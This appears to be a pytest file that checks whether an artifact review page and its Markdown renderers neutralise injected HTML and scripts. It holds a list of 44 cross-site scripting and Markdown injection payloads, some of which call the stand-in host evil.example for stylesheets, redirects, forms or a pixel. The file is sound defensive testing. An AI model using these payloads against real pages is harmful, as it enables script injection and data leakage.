"""Would win: a script, a form or a request in the browser of whoever reads a run's page, an
artifact or a file to review, by a name, a code, a title or a narrative.
"""

import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import markdown
import pytest
from review_browser import CHROMIUM, HEADER, TAIL, browsing, opened, serving
from sealed_bundle import Sealed

from storage.figures import escape
from storage.ledger.report import markdown_table
from storage.tables.writer import csv_lines
from tasks.bundle.statement import statement_page
from tasks.coding.coder import Coder

DECLARES = """
a page and an artifact show a text and do nothing by it
| 44 texts of HTML, Markdown and scripts in a table of an artifact, in a statement and in a line;
all of them as narrative, code and title of a file that the review page opens in a browser
| what Prefect's own pages do with an artifact beyond its Markdown
"""

PAYLOADS = [
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<iframe srcdoc='<script>parent.hit=1</script>'>",
    "<iframe src=javascript:window.hit=1>",
    "<object data=javascript:window.hit=1>",
    "<embed src=javascript:window.hit=1>",
    "<math><mi xlink:href=javascript:window.hit=1>x",
    "<a href=javascript:window.hit=1>x</a>",
    "<a href='data:text/html,<script>window.hit=1</script>'>x</a>",
    "<form action=https://evil.example><input name=x></form>",
    "<input autofocus onfocus=window.hit=1>",
    "<details open ontoggle=window.hit=1>x",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<video><source onerror=window.hit=1></video>",
    "<body onload=window.hit=1>",
    "</td></tr></table><script>window.hit=1</script>",
    "</textarea><script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "'\"><img src=x onerror=window.hit=1>",
    '" onmouseover=window.hit=1 x="',
    "`<img src=x onerror=window.hit=1>`",
    "<!--><script>window.hit=1</script>",
    "<![CDATA[<script>window.hit=1</script>]]>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#60;script&#62;window.hit=1&#60;/script&#62;",
    "\\<script>window.hit=1</script>",
    "\u003cscript\u003ewindow.hit=1",
    "<scr\0ipt>window.hit=1</scr\0ipt>",
    "[x](javascript:window.hit=1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](https://evil.example/pixel.png)",
    "[x]: javascript:window.hit=1\n[x]",
    "<javascript:window.hit=1>",
    "<https://evil.example>",
    "x | y | z\n---|---|---\n1 | 2 | 3",
    "# heading\n\n- list\n\n```\ncode\n```",
    "\n\n<div>block</div>\n\n",
    "{{ 7*7 }}{% for x in y %}",
    "${window.hit=1}`${window.hit=1}`",
]
HARMLESS = {"p", "table", "thead", "tbody", "tr", "th", "td", "h1", "h2", "h3", "ul", "ol", "li"}
HARMLESS |= {"strong", "em", "code", "pre", "br", "hr"}


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def tags(text: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """The elements of a Markdown text, whose reader lets HTML pass."""
    parser = Tags()
    parser.feed(markdown.markdown(text, extensions=["tables"]))
    return parser.found


def harmless(found: list[tuple[str, list[tuple[str, str | None]]]]) -> bool:
    return all(tag in HARMLESS and {name for name, _ in of} <= {"style"} for tag, of in found)


@pytest.mark.parametrize("text", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_text_in_a_table_of_an_artifact(text: str) -> None:
    """One row with two cells, as of any other text."""
    plain = tags(markdown_table(["name", text], [["x", "y"], [text, "1"]]))
    assert harmless(plain)
    assert [tag for tag, _ in plain].count("td") == 4
    assert [tag for tag, _ in plain].count("th") == 2


@pytest.mark.parametrize("text", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_text_in_a_statement(sealed: Sealed, text: str) -> None:
    """As population, cohort and unit: the page has the elements that it has with any other name."""
    from tasks.bundle.statement import statement

    stated = statement(sealed.row, sampling="per-record")

    def page(name: str) -> list[str]:
        unit = {"population": name, "cohorts": [name], "privacy_unit": f"unit ({name})"}
        return [tag for tag, _ in tags(statement_page(stated | unit))]

    assert page(text.strip()) == page("name")  # a name has no blanks around it


@pytest.mark.parametrize("text", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_text_in_a_line_of_markdown(text: str) -> None:
    assert harmless(tags(f"before {escape(text)} after"))
    assert [tag for tag, _ in tags(f"before {escape(text)} after")] == ["p"]


# -- the page for reviewers, in a browser


@pytest.fixture(scope="module")
def address(coder: Coder) -> Iterator[str]:
    with serving(coder) as made:
        yield made


@pytest.mark.servers
@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")
def test_texts_of_a_file_to_review(address: str, tmp_path: Path) -> None:
    """Each as narrative, code, title and conflict of a row: every case is looked at, nothing ran,
    nothing was asked of another host, and no element is there that no case had before.
    """
    rows: list[Any] = [HEADER + TAIL]
    for number, text in enumerate(("a plain text", *PAYLOADS)):
        answer = (text[:40], text, 0.4, "132", 0.1, "1520", 0.05, "true")
        rows.append((number, text, *answer, text[:40], 1, text, "m"))
    file = tmp_path / "coded.csv"
    file.write_text(csv_lines(rows), newline="")
    with browsing() as page:
        opened(page, address, file, coder="ab")
        page.select_option("#order", "file")
        page.locator("#case").focus()
        kinds: set[str] = set()
        for number in range(len(rows) - 1):
            kinds |= set(page.evaluate("[...document.querySelectorAll('*')].map(e => e.tagName)"))
            assert page.evaluate("window.hit") is None, PAYLOADS[number - 1]
            page.keyboard.press("j")
        assert not kinds & {"IFRAME", "OBJECT", "EMBED", "BASE", "IMG", "VIDEO", "SVG", "MATH"}
        own = re.compile(rf"{re.escape(address.removesuffix('/review'))}/|data:|blob:")
        strangers = [what for what in page.seen if not own.match(what)]
        assert strangers == []
